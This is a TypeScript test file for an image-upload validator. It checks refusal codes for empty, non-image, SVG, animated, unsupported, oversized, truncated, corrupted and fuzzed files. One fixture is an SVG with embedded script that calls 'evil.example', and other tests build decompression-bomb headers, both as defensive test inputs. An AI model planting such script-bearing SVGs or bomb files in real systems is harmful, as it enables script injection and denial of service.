import { gzipSync } from 'node:zlib';
import type { Sharp } from 'sharp';
import { afterAll, expect, test } from 'vitest';
import {
  colours,
  greyTiff,
  jpegSaying,
  pngChunk,
  pngSaying,
  pngWith,
  rgb,
  twoFrames,
} from './testing/make-pictures.ts';
import { pictureFolder } from './testing/picture-folder.ts';

const folder = pictureFolder();
afterAll(() => folder.remove());

const WIDTH = 60;
const HEIGHT = 40;
const picture = (): Sharp => rgb(colours(WIDTH, HEIGHT), WIDTH, HEIGHT);
const text = (content: string): Buffer => Buffer.from(content, 'utf8');
const codeOf = async (name: string, content: Uint8Array): Promise<string> =>
  (await folder.refused(name, content)).code;

test('a file without bytes is empty', async () => {
  expect(await codeOf('a.png', Buffer.alloc(0))).toBe('empty');
});

test('what is no picture is not an image, whatever its name', async () => {
  expect(await codeOf('a.png', text('name,age\nAda,36\n'))).toBe('not-an-image');
  expect(await codeOf('a.jpg', Buffer.from([0xff]))).toBe('not-an-image');
  expect(await codeOf('a.jpg', gzipSync('hello'))).toBe('not-an-image');
});

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>fetch("//evil.example")</script></svg>';

test.each([
  ['plain', text(SVG)],
  ['behind a mark, a declaration, a comment', text(`\uFEFF <?xml version="1.0"?>\n<!-- hello -->\n${SVG}`)],
  ['with a prefix', text('<s:svg xmlns:s="http://www.w3.org/2000/svg"/>')],
  ['in UTF-16', Buffer.from(`\uFEFF${SVG}`, 'utf16le')],
  ['in UTF-16, swapped', Buffer.from(`\uFEFF${SVG}`, 'utf16le').swap16()],
  ['packed', gzipSync(SVG)],
])('an SVG, %s, is refused also under the name of a PNG', async (_, content) => {
  expect(await codeOf('a.svg', content)).toBe('svg');
  expect(await codeOf('a.png', content)).toBe('svg');
});

test('a picture of several frames is animated', async () => {
  expect(await codeOf('a.webp', await twoFrames('webp'))).toBe('animated');
  expect(await codeOf('a.gif', await twoFrames('gif'))).toBe('animated');
  const frames = Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]);
  expect(await codeOf('a.png', pngWith(await picture().png().toBuffer(), pngChunk('acTL', frames)))).toBe(
    'animated',
  );
});

test('an animation of one frame is a picture', async () => {
  const frames = Buffer.from([0, 0, 0, 1, 0, 0, 0, 0]);
  const png = pngWith(await picture().png().toBuffer(), pngChunk('acTL', frames));
  expect((await folder.taken('a.png', png)).facts.format).toBe('png');
});

test('what is not read is named', async () => {
  const gif = await picture().gif().toBuffer();
  expect(await folder.refused('a.gif', gif)).toMatchObject({
    code: 'unsupported',
    message: 'A GIF is not read.',
  });
  const heic = Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    text('ftypheic\0\0\0\0mif1heic'),
    Buffer.alloc(50),
  ]);
  expect((await folder.refused('a.heic', heic)).message).toBe('A HEIC picture is not read.');
  expect((await folder.refused('a.bmp', Buffer.concat([text('BM'), Buffer.alloc(60)]))).message).toBe(
    'A BMP is not read.',
  );
  expect((await folder.refused('a.tif', greyTiff([{}, {}, {}]))).message).toBe(
    'A TIFF of 3 pages is not read.',
  );
  expect((await folder.refused('a.tif', greyTiff([{ bits: 32, format: 3 }]))).message).toBe(
    'A TIFF of 32-bit floating-point numbers is not read.',
  );
  const messageOf = async (page: Parameters<typeof greyTiff>[0][number]) =>
    (await folder.refused('a.tif', greyTiff([page]))).message;
  expect(await messageOf({ bits: 16, format: 2 })).toBe('A TIFF of 16-bit signed integers is not read.');
  expect(await messageOf({ bits: 32 })).toBe('A TIFF of 32-bit integers is not read.');
  expect(await messageOf({ colours: 8 })).toBe('A TIFF of CIELAB colours is not read.');
});

test('a smaller version behind a page is no page', async () => {
  const { facts } = await folder.taken('a.tif', greyTiff([{}, { kind: 1 }]));
  expect(facts).toMatchObject({ width: 2, height: 2, notices: [{ code: 'further-pictures' }] });
});

test('a TIFF whose directories run in a circle ends', async () => {
  const circle = greyTiff([{}]);
  circle.writeUInt32LE(8, 8 + 2 + 11 * 12);
  expect(await codeOf('a.tif', circle)).toBe('damaged');
});

test('what would unfold to too much never reaches the decoder', async () => {
  const png = await picture().png().toBuffer();
  const jpeg = await picture().jpeg().toBuffer();
  const bomb = await folder.refused('a.png', pngSaying(png, 50_000, 50_000));
  expect(bomb).toMatchObject({ code: 'too-many-pixels' });
  expect(bomb.message).toContain('50000 x 50000');
  expect(await codeOf('a.png', pngSaying(png, 65_501, 1))).toBe('too-many-pixels');
  expect(await codeOf('a.jpg', jpegSaying(jpeg, 65_000, 65_000))).toBe('too-many-pixels');
  const small = await folder.refused('a.png', png, { pixels: WIDTH * HEIGHT - 1 });
  expect(small.code).toBe('too-many-pixels');
  expect((await folder.read('a.png', png, { pixels: WIDTH * HEIGHT })).ok).toBe(true);
});

test('a file over the limit is not opened', async () => {
  const png = await picture().png().toBuffer();
  expect((await folder.refused('a.png', png, { bytes: png.length - 1 })).code).toBe('too-large-a-file');
});

test('sizes of zero are no pixels', async () => {
  const jpeg = await picture().jpeg().toBuffer();
  expect(await codeOf('a.jpg', jpegSaying(jpeg, 0, 40))).toBe('no-pixels');
  expect(await codeOf('a.png', pngSaying(await picture().png().toBuffer(), 40, 0))).toBe('no-pixels');
});

test.each(['jpeg', 'png', 'webp', 'tiff', 'avif'] as const)(
  'a %s that was cut off is damaged, wherever it was cut',
  async (format) => {
    const whole = await picture().toFormat(format).toBuffer();
    for (const share of [0.05, 0.3, 0.6, 0.9]) {
      expect(await codeOf('a', whole.subarray(0, Math.max(16, Math.floor(whole.length * share))))).toBe(
        'damaged',
      );
    }
  },
);

test('a PNG whose header lies is damaged', async () => {
  const png = await picture().png().toBuffer();
  expect(await codeOf('a.png', pngSaying(png, WIDTH * 2, HEIGHT * 2))).toBe('damaged');
});

test('a JPEG whose pixels are wrong is damaged, not shown with wrong pixels', async () => {
  const jpeg = await picture().jpeg().toBuffer();
  const scan = jpeg.indexOf(Buffer.from([0xff, 0xda])) + 120;
  const wrong = Buffer.from(jpeg).fill(0xfe, scan, scan + 600);
  expect(await codeOf('a.jpg', wrong)).toBe('damaged');
});

test('a JPEG with stray bytes between two parts is taken, and the remark told', async () => {
  const jpeg = await picture().jpeg().toBuffer();
  const stray = Buffer.concat([jpeg.subarray(0, 20), Buffer.alloc(7, 0x11), jpeg.subarray(20)]);
  const { facts } = await folder.taken('a.jpg', stray);
  expect(facts.notices).toEqual([
    { code: 'decoder-warned', warning: expect.stringContaining('extraneous bytes') },
  ]);
});

test('random bytes in the start of each format end in an outcome, not in an error', async () => {
  const outcomes = new Set<string>();
  const starts = await Promise.all(
    (['jpeg', 'png', 'webp', 'tiff', 'avif', 'gif'] as const).map((format) =>
      picture().toFormat(format).toBuffer(),
    ),
  );
  let state = 1;
  const next = (): number => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return state >>> 16;
  };
  const rounds = process.env.ASSAY_SOAK === '1' ? 2_000 : 20;
  for (let round = 0; round < rounds; round += 1) {
    for (const start of starts) {
      const mixed = Buffer.from(start);
      for (let change = 0; change < 12; change += 1)
        mixed[next() % Math.min(mixed.length, 400)] = next() % 256;
      outcomes.add(await folder.outcome(mixed));
    }
  }
  expect([...outcomes]).toEqual(expect.arrayContaining(['taken', 'damaged', 'unsupported', 'not-an-image']));
}, 1_800_000);
